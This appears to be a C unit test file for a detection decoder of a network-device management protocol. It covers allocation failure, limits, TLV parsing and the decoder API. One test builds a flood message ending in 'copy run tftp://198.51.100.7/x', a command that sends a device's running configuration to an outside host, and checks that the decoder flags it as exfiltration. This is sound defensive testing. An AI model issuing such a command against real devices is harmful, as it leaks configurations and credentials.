/* SPDX-License-Identifier: BSD-2-Clause */
/* Limits, allocation failure, and the interface for programs. */
#include "decode/decode.h"
#include "decode/tlv.h"
#include "smin/decoder.h"
#include "tests/unit/decode/decode_run.h"

#include <criterion/criterion.h>

Test(memory, the_nth_allocation_may_fail_for_every_n)
{
    static struct hexfile file;
    struct failing_alloc memory;
    struct smini_decode_scratch scratch;
    struct smini_stream stream;
    hexfile_vector("t08_backup_tlv3_siet", &file);
    bool refused = true;
    uint64_t n = 1;
    for (; refused; n++) {
        failing_alloc_open(&memory);
        failing_alloc_fail_nth(&memory, n);
        int32_t status = smini_decode_scratch_init(&scratch, &memory.alloc, NULL);
        if (status == SMIN_OK) {
            /* Two messages in pieces, and a trailer that outgrows the small buffer. */
            smini_stream_init(&stream, SMIN_TO_SERVER, true, false);
            for (int round = 0; round < 4 && status == SMIN_OK; round++)
                for (size_t at = 0; at < file.length && status == SMIN_OK; at += 50)
                    status = smini_stream_feed(&stream, &scratch, file.bytes + (round < 2 ? at : 100),
                                               file.length - at < 50 ? file.length - at : 50);
            if (status == SMIN_OK)
                status = smini_stream_end(&stream, &scratch);
            smini_stream_drop(&stream, &scratch);
            smini_decode_scratch_free(&scratch);
        }
        refused = memory.refused > 0;
        cr_expect_eq(status, refused ? SMIN_E_NOMEM : SMIN_OK, "allocation %zu", (size_t)n);
        cr_expect(failing_alloc_clean(&memory), "allocation %zu leaks", (size_t)n);
    }
    cr_expect_gt(n, 4, "the scene must allocate");
}

Test(memory, nothing_is_allocated_per_message)
{
    static struct hexfile file;
    struct decode_run run;
    decode_run_open(&run, NULL);
    hexfile_vector("t03_download_config_sched", &file);
    uint64_t before = run.memory.requests;
    for (int i = 0; i < 100; i++)
        decode_run_feed(&run, file.bytes, file.length);
    cr_expect_eq(run.memory.requests, before, "contiguous messages take no memory");
    for (int i = 0; i < 100; i++) {
        decode_run_feed(&run, file.bytes, 30);
        decode_run_feed(&run, file.bytes + 30, file.length - 30);
    }
    cr_expect_eq(run.memory.requests, before + 1, "one buffer serves all messages in pieces");
    cr_expect_eq(run.scratch.counters.messages, 200);
    cr_expect(decode_run_close(&run));
}

Test(memory, a_declared_length_alone_takes_no_large_buffer)
{
    struct decode_run run;
    uint8_t header[16];
    decode_run_open(&run, NULL);
    decode_run_header(header, 1, 1, 3, 65536);
    size_t before = run.memory.alloc.used;
    decode_run_feed(&run, header, sizeof(header));
    cr_expect_lt(run.memory.alloc.used - before, 1400);
    cr_expect(decode_run_close(&run));
}

Test(limits, settings_that_make_no_sense_are_refused)
{
    struct failing_alloc memory;
    struct smini_decode_scratch scratch;
    failing_alloc_open(&memory);
    for (int i = 0; i < 6; i++) {
        struct smini_decode_limits limits = smini_decode_limits_default();
        uint32_t *const settings[] = {&limits.message_bytes, &limits.trailer_bytes, &limits.fields,
                                      &limits.events, &limits.events_alike, &limits.absurd_length};
        *settings[i] = 0;
        cr_expect_eq(smini_decode_scratch_init(&scratch, &memory.alloc, &limits), SMIN_E_MISUSE, "%d", i);
    }
    struct smini_decode_limits limits = smini_decode_limits_default();
    limits.holes = SMINI_HOLES_ROOM + 1;
    cr_expect_eq(smini_decode_scratch_init(&scratch, &memory.alloc, &limits), SMIN_E_MISUSE);
    cr_expect(failing_alloc_clean(&memory));
}

/* A backup request full of tiny items: hundreds of commands, all at once. */
static size_t make_flood(uint8_t *bytes, size_t room, const char *last)
{
    size_t at = 16;
    for (; at + 300 < room; at += 9) {
        const uint8_t item[9] = {0, 2, 0, 9, 'r', 'e', 'l', 'o', 'a'};
        memcpy(bytes + at, item, sizeof(item));
    }
    size_t length = strlen(last) + 1;
    bytes[at] = 0;
    bytes[at + 1] = 2;
    bytes[at + 2] = 0;
    bytes[at + 3] = (uint8_t)(length + 4);
    memcpy(bytes + at + 4, last, length);
    at += 4 + length;
    decode_run_header(bytes, 1, 1, 8, (uint32_t)(at - 16));
    return at;
}

Test(limits, a_flood_of_items_hides_no_verdict)
{
    static uint8_t bytes[4000];
    struct decode_run run;
    decode_run_open(&run, NULL);
    size_t length = make_flood(bytes, sizeof(bytes), "copy run tftp://198.51.100.7/x");
    decode_run_feed(&run, bytes, length);
    cr_expect(decode_run_says(&run, "event config_exfiltration..."));
    cr_expect(decode_run_says(&run, "event command_execution..."));
    cr_expect(decode_run_says(&run, "event limit_fields..."));
    cr_expect(decode_run_says(&run, "event limit_events..."));
    cr_expect_leq(run.scratch.message.field_count, run.scratch.limits.fields);
    cr_expect_leq(run.scratch.message.event_count, run.scratch.limits.events);
    cr_expect_gt(run.scratch.counters.limit_hits, 0);
    cr_expect(decode_run_close(&run));
}

Test(tlv, an_item_never_sees_its_neighbour)
{
    const uint8_t bytes[] = {0, 1, 0, 6, 'a', 'b', 0, 2, 0, 3, 'x', 'y'};
    struct smini_cursor items = smini_cursor_make(smini_span_make(bytes, sizeof(bytes)), 100);
    struct smini_tlv item;
    cr_expect_eq(smini_tlv_next(&items, SMINI_TLV_16, &item), SMINI_TLV_ITEM);
    cr_expect_eq(item.offset, 100);
    cr_expect_eq(smini_cursor_left(&item.value), 2);
    cr_expect_eq(smini_tlv_next(&items, SMINI_TLV_16, &item), SMINI_TLV_SHORT);
    cr_expect_eq(item.type, 2);
    cr_expect_eq(smini_tlv_next(&items, SMINI_TLV_16, &item), SMINI_TLV_END);
}

Test(tlv, the_wide_style_does_not_count_its_header)
{
    const uint8_t bytes[] = {0, 0, 0, 1, 0, 0, 0, 2, 'a', 'b', 0, 0, 0, 9, 0, 0, 1, 0, 'z'};
    struct smini_cursor items = smini_cursor_make(smini_span_make(bytes, sizeof(bytes)), 0);
    struct smini_tlv item;
    cr_expect_eq(smini_tlv_next(&items, SMINI_TLV_32, &item), SMINI_TLV_ITEM);
    cr_expect_eq(smini_cursor_left(&item.value), 2);
    cr_expect_eq(smini_tlv_next(&items, SMINI_TLV_32, &item), SMINI_TLV_LONG);
    cr_expect_eq(item.length, 256);
    cr_expect_eq(smini_cursor_left(&item.value), 1);
}

static void count_message(void *user, const struct smin_message *message)
{
    unsigned *count = user;
    *count += message->kind == SMIN_KIND_MESSAGE;
}

Test(decoder_api, whole_messages)
{
    static struct hexfile file;
    unsigned count = 0;
    uint64_t total = 0;
    hexfile_vector("t10_t08_pipelined", &file);
    cr_expect_eq(smin_message_need(file.bytes, 10, &total), SMIN_MORE);
    cr_expect_eq(total, 16);
    cr_expect_eq(smin_message_need(file.bytes, file.length, &total), SMIN_OK);
    cr_expect_eq(total, 96);
    cr_expect_eq(smin_message_decode(file.bytes, file.length, SMIN_TO_SERVER, count_message, &count), SMIN_OK);
    cr_expect_eq(count, 1);
    cr_expect_eq(smin_message_decode(file.bytes, 50, SMIN_TO_SERVER, count_message, &count), SMIN_E_TRUNCATED);
    cr_expect_eq(count, 2);
    cr_expect_eq(smin_message_decode(file.bytes, 15, SMIN_TO_SERVER, count_message, &count), SMIN_E_TRUNCATED);
    cr_expect_eq(smin_message_decode((const uint8_t *)"GET / HTTP/1.1\r\n", 16, SMIN_TO_SERVER, count_message, &count),
                 SMIN_E_MALFORMED);
    cr_expect_eq(count, 2);
    cr_expect_eq(smin_message_decode(file.bytes, 96, SMIN_TO_SERVER, NULL, NULL), SMIN_E_MISUSE);
    cr_expect_eq(smin_message_decode(NULL, 96, SMIN_TO_SERVER, count_message, &count), SMIN_E_MISUSE);
    cr_expect_eq(smin_message_decode(file.bytes, 96, 7, count_message, &count), SMIN_E_MISUSE);
}

Test(decoder_api, a_stream_is_made_fed_and_freed)
{
    static struct hexfile file;
    unsigned count = 0;
    struct smin_stream *stream = NULL;
    hexfile_vector("t10_t08_pipelined", &file);
    cr_assert_eq(smin_stream_new(SMIN_TO_SERVER, 4786, 0, count_message, &count, &stream), SMIN_OK);
    cr_expect_eq(smin_stream_push(stream, file.bytes, 100), SMIN_OK);
    cr_expect_eq(smin_stream_gap(stream, 10), SMIN_OK);
    cr_expect_eq(smin_stream_push(stream, file.bytes + 110, file.length - 110), SMIN_OK);
    cr_expect_eq(smin_stream_end(stream), SMIN_OK);
    cr_expect_eq(smin_stream_push(stream, file.bytes, 1), SMIN_DONE);
    cr_expect_eq(count, 1, "the gap stands over the second header");
    smin_stream_free(&stream);
    cr_expect_null(stream);
    smin_stream_free(&stream);
    cr_expect_eq(smin_stream_new(SMIN_TO_SERVER, 4786, 0, NULL, NULL, &stream), SMIN_E_MISUSE);
    cr_expect_eq(smin_stream_push(NULL, file.bytes, 1), SMIN_E_MISUSE);
}

Test(decoder_api, numbers_and_names_of_the_tables_are_unique)
{
    uint32_t fields, events, messages;
    const struct smin_field_desc *field = smin_field_table(&fields);
    const struct smin_event_desc *event = smin_event_table(&events);
    const struct smin_message_desc *message = smin_message_table(&messages);
    for (uint32_t i = 0; i < fields; i++)
        for (uint32_t k = 0; k < i; k++)
            cr_expect(field[i].id != field[k].id && strcmp(field[i].name, field[k].name) != 0, "%s", field[i].name);
    for (uint32_t i = 0; i < events; i++)
        for (uint32_t k = 0; k < i; k++)
            cr_expect(event[i].id != event[k].id && strcmp(event[i].name, event[k].name) != 0, "%s", event[i].name);
    for (uint32_t i = 0; i < messages; i++)
        for (uint32_t k = 0; k < i; k++)
            cr_expect(message[i].id != message[k].id && strcmp(message[i].name, message[k].name) != 0, "%s",
                      message[i].name);
}
